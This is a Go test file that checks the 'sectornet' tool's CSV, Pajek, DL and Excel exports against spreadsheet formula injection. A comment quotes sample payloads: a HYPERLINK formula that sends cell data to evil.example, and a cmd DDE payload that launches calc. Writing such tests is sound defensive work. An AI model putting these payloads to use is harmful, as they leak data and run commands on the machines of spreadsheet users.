package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"math"
	"os"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/sectornet/sectornet/data"
	"github.com/sectornet/sectornet/out"
)

// formulaData names its organizations, sectors, forums, meetings, waves,
// tie types, roles and extra columns with text a spreadsheet evaluates
// (OWASP CSV injection: a cell starting with =, +, -, @, a tab or a
// carriage return), e.g. =HYPERLINK("http://evil.example/?d="&A1,"Click
// me") and -2+3+cmd|' /C calc'!A0, and one name, "Safe; =1+1", that is
// a formula once Excel splits a line at its semicolon (the CSV separator
// in many countries).
const formulaData = "testdata/formula"

// spreadsheetNumber is what Excel and LibreOffice read as a number, not a
// formula, though it starts with a sign: -0.25, +3, -1e-05.
var spreadsheetNumber = regexp.MustCompile(`^[-+]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][-+]?[0-9]+)?$`)

// evaluated reports whether a spreadsheet evaluates cell as a formula: it
// starts (after spaces) with one of OWASP's characters = + - @ tab CR, or
// a line feed, and is not a number.
func evaluated(cell string) bool {
	c := strings.TrimLeft(cell, " ")
	return c != "" && strings.ContainsRune("=+-@\t\r\n", rune(c[0])) && !spreadsheetNumber.MatchString(c)
}

// spreadsheetCells reads b as a spreadsheet opens a CSV file: every line
// is cells (a "# title" line too: a spreadsheet knows no comments), split
// at sep outside quotes.
func spreadsheetCells(t *testing.T, b []byte, sep rune) []string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(b))
	r.Comma = sep
	r.FieldsPerRecord = -1
	r.LazyQuotes = true
	var cells []string
	for {
		rec, err := r.Read()
		if err == io.EOF {
			return cells
		}
		if err != nil {
			t.Fatalf("CSV does not parse with separator %q: %v\n%s", sep, err, b)
		}
		cells = append(cells, rec...)
	}
}

// unapostrophe finds the apostrophes that make a stretch of a cell after a
// semicolon (or a comma, in a "# title" line) safe.
var unapostrophe = regexp.MustCompile(`([;,] *)'`)

// checkSafeCSV checks a spreadsheet-safe CSV document against its --raw
// form: read with commas, no cell of safe is evaluated, each is raw's
// cell or, where raw's would be evaluated, that cell after an apostrophe;
// read with semicolons, no cell is evaluated either. It returns how many
// cells raw had that a spreadsheet evaluates.
func checkSafeCSV(t *testing.T, safe, raw []byte) int {
	t.Helper()
	sc, rc := spreadsheetCells(t, safe, ','), spreadsheetCells(t, raw, ',')
	if len(sc) != len(rc) {
		t.Fatalf("safe CSV has %d cells, raw %d\nsafe:\n%s\nraw:\n%s", len(sc), len(rc), safe, raw)
	}
	hostile := 0
	for i := range sc {
		switch {
		case evaluated(rc[i]):
			hostile++
			if sc[i] != "'"+rc[i] {
				t.Errorf("raw cell %q is %q in the safe form, want an apostrophe before it", rc[i], sc[i])
			}
		case unapostrophe.ReplaceAllString(sc[i], "$1") != rc[i]:
			t.Errorf("raw cell %q is %q in the safe form", rc[i], sc[i])
		}
	}
	for _, c := range spreadsheetEvaluates(t, safe) {
		t.Errorf("cell %q is evaluated by a spreadsheet", c)
	}
	return hostile
}

// spreadsheetEvaluates returns the cells of b that a spreadsheet opening
// it as CSV would evaluate, reading it with commas or with semicolons.
// Read with semicolons, a line without one is a cell: its first field
// decides, as a line that starts with a number (-0.5,x) is not a formula
// a spreadsheet can evaluate.
func spreadsheetEvaluates(t *testing.T, b []byte) []string {
	t.Helper()
	var bad []string
	for _, c := range spreadsheetCells(t, b, ',') {
		if evaluated(c) {
			bad = append(bad, c)
		}
	}
	for _, c := range spreadsheetCells(t, b, ';') {
		if first, _, _ := strings.Cut(c, ","); evaluated(first) {
			bad = append(bad, c)
		}
	}
	return bad
}

// TestFormulaInjectionCSV runs every command that writes CSV on
// formulaData, in the default (spreadsheet-safe) form and with --raw: no
// cell of the default form can be evaluated by a spreadsheet, whether it
// splits lines at commas or semicolons; --raw writes each text as it is
// (the literal names for R and pandas), and the two differ only by the
// apostrophes. Before, =HYPERLINK(...) reached every CSV table as it was.
func TestFormulaInjectionCSV(t *testing.T) {
	runs := [][]string{
		{"analyze"}, {"backbone"}, {"balance"}, {"balance", "--check"}, {"brokers"}, {"centrality"},
		{"centrality", "--mode", "two"}, {"communities"}, {"core"}, {"engagement"}, {"engagement", "--check"},
		{"firsts"}, {"qap"}, {"sectors", "--permutations", "50"}, {"suggest"}, {"summary", "--cug", "20", "--bootstrap", "20"},
		{"survey"}, {"validate"}, {"change", "--from", "+2014", "--to", "=2012"},
	}
	for _, r := range runs {
		t.Run(strings.Join(r, " "), func(t *testing.T) {
			args := append([]string{r[0], formulaData, "--format", "csv"}, r[1:]...)
			code, safe, errs := sectornet(t, args...)
			if code != exitOK && code != exitCheck {
				t.Fatalf("exit %d: %s", code, errs)
			}
			code2, raw, errs := sectornet(t, append(args, "--raw")...)
			if code2 != code {
				t.Fatalf("--raw: exit %d, want %d: %s", code2, code, errs)
			}
			if checkSafeCSV(t, []byte(safe), []byte(raw)) == 0 && r[0] != "validate" && r[0] != "backbone" && r[0] != "qap" {
				t.Errorf("no hostile cell in the output: the test tests nothing\n%s", raw)
			}
		})
	}
	// The edge list: ids.
	_, safe, _ := sectornet(t, "export", formulaData)
	_, raw, _ := sectornet(t, "export", formulaData, "--raw")
	if checkSafeCSV(t, []byte(safe), []byte(raw)) == 0 {
		t.Errorf("edge list: no hostile id\n%s", raw)
	}
	if !strings.Contains(raw, "\n=O1,@O4,2\n") || !strings.Contains(safe, "\n'=O1,'@O4,2\n") {
		t.Errorf("edge list: raw\n%s\nsafe\n%s", raw, safe)
	}
}

// TestFormulaInjectionPajekDL: the vertex labels of Pajek and DL files
// (which spreadsheets open as text, a line a cell) are safe by default and
// literal with --raw.
func TestFormulaInjectionPajekDL(t *testing.T) {
	for _, format := range []string{"pajek", "dl"} {
		for _, extra := range [][]string{{"--label-by", "name"}, {"--label-by", "id", "--mode", "two"}} {
			args := append([]string{"export", formulaData, "--format", format}, extra...)
			code, safe, errs := sectornet(t, args...)
			if code != 0 {
				t.Fatalf("%v: %s", args, errs)
			}
			_, raw, _ := sectornet(t, append(args, "--raw")...)
			// Spreadsheets open these files as text, a line a cell or
			// split at commas or semicolons.
			for _, c := range spreadsheetEvaluates(t, []byte(safe)) {
				t.Errorf("%v: %q is evaluated by a spreadsheet", args, c)
			}
			// The labels that start with = + - @ (four of them, by id or
			// by name) get an apostrophe; DL quotes a label with one.
			strip := strings.NewReplacer("'", "", `"`, "")
			if strings.Count(safe, "'") < strings.Count(raw, "'")+4 || strip.Replace(safe) != strip.Replace(raw) {
				t.Errorf("%v: safe and raw differ in more than apostrophes:\n%s\n%s", args, safe, raw)
			}
		}
	}
}

// TestFormulaInjectionReportTables writes the report of formulaData and
// checks every table it wrote: its CSV file as in TestFormulaInjectionCSV
// (against the table written literally, as --raw writes it); its .xlsx
// file holds no formula at all, each text cell the text as it is (no
// apostrophe: a workbook's text cells are never evaluated), each number a
// number cell.
func TestFormulaInjectionReportTables(t *testing.T) {
	d, err := data.Load(os.DirFS(formulaData))
	if err != nil {
		t.Fatal(err)
	}
	a := out.NewAnalysis(d, out.AnalysisOptions{Layout: childLayout})
	files := memFolder{}
	r, err := out.WriteReport(context.Background(), a, out.ReportOptions{Auto: true, Made: "2026-01-01"}, files, nil)
	if err != nil {
		t.Fatal(err)
	}
	hostile, tables := 0, 0
	for _, s := range r.Doc.Sections {
		for _, tb := range s.Tables {
			tables++
			csvName, xlsxName := tb.Files[0], strings.TrimSuffix(tb.Files[0], ".csv")+".xlsx"
			safe, book := files[csvName], files[xlsxName]
			if safe == nil || book == nil || !strings.HasSuffix(csvName, ".csv") {
				t.Fatalf("%v: no %s or no %s", tb.Files, csvName, xlsxName)
			}
			var raw bytes.Buffer
			if err := tb.Write(&raw, out.FormatCSVLiteral); err != nil {
				t.Fatal(err)
			}
			hostile += checkSafeCSV(t, safe, raw.Bytes())
			checkWorkbook(t, xlsxName, book, spreadsheetCells(t, raw.Bytes(), ','))
		}
	}
	if tables < 20 || hostile < 50 {
		t.Errorf("%d tables with %d hostile cells: the test tests too little", tables, hostile)
	}
}

// checkWorkbook checks a one-sheet table workbook: no cell has a formula,
// and its cells, row by row, are want (the literal CSV's cells), numbers
// as number cells.
func checkWorkbook(t *testing.T, name string, b []byte, want []string) {
	t.Helper()
	if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) {
		t.Errorf("%s: a formula element", name)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	defer f.Close()
	sheet := f.GetSheetList()[0]
	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for r, row := range rows {
		for c, v := range row {
			cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if fm, _ := f.GetCellFormula(sheet, cell); fm != "" {
				t.Errorf("%s %s: formula %q", name, cell, fm)
			}
			if typ, _ := f.GetCellType(sheet, cell); typ == excelize.CellTypeNumber && !spreadsheetNumber.MatchString(v) {
				t.Errorf("%s %s: number cell %q", name, cell, v)
			}
			got = append(got, v)
		}
	}
	// GetRows drops a row's trailing empty cells; compare without them.
	// Numbers are kept to Excel's 15 significant digits.
	got, want = trimEmpty(got), trimEmpty(want)
	same := len(got) == len(want)
	for i := 0; same && i < len(got); i++ {
		g, err1 := strconv.ParseFloat(got[i], 64)
		w, err2 := strconv.ParseFloat(want[i], 64)
		if err1 == nil && err2 == nil && spreadsheetNumber.MatchString(want[i]) {
			same = math.Abs(g-w) <= 1e-14*math.Abs(w)
		} else {
			same = got[i] == want[i]
		}
	}
	if !same {
		t.Errorf("%s: workbook cells\n%q\nwant\n%q", name, got, want)
	}
}

func trimEmpty(cells []string) []string {
	var out []string
	for _, c := range cells {
		if c != "" {
			out = append(out, c)
		}
	}
	return out
}
